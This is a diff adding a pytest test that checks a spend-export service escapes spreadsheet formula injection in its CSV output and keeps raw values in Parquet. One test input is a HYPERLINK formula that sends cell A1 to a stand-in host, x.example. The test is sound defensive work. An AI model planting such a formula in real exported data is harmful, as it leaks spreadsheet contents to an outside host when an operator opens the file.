@@ -212,6 +212,31 @@ async def test_an_export_has_every_charge_once(
     assert rows[4]["task"] == "t1"
 
 
+@pytest.mark.parametrize(
+    ("said", "written"),
+    [
+        ('=HYPERLINK("http://x.example/?"&A1,"1")', '\'=HYPERLINK("http://x.example/?"&A1,"1")'),
+        ("+1", "'+1"),
+        ("-1", "'-1"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("a=1", "a=1"),
+    ],
+)
+async def test_no_spreadsheet_reckons_with_what_an_export_says(
+    database: Database, service: SpendService, said: str, written: str
+) -> None:
+    """Whoever calls a model says for what; whoever opens the file may be an operator."""
+    start = datetime(2020, 1, 1, tzinfo=UTC)
+    await ScriptedSpending(database).charge(charge("k", 7, start, task_type=said, session=said))
+    with _as():
+        content = await _exported(service, pb.SPEND_FORMAT_CSV, start_time=start)
+        whole = await _exported(service, pb.SPEND_FORMAT_PARQUET, start_time=start)
+    [row] = csv.DictReader(io.StringIO(content.decode(), newline=""))
+    assert (row["task_type"], row["session"], row["cost_micros"]) == (written, written, "7")
+    [exact] = _PARQUET.read_table(io.BytesIO(whole)).to_pylist()
+    assert exact["task_type"] == said
+
+
 @pytest.mark.parametrize("written_as", _FORMATS)
 async def test_an_export_of_nothing_is_a_whole_file(service: SpendService, written_as: Any) -> None:
     """With its columns and without a row."""
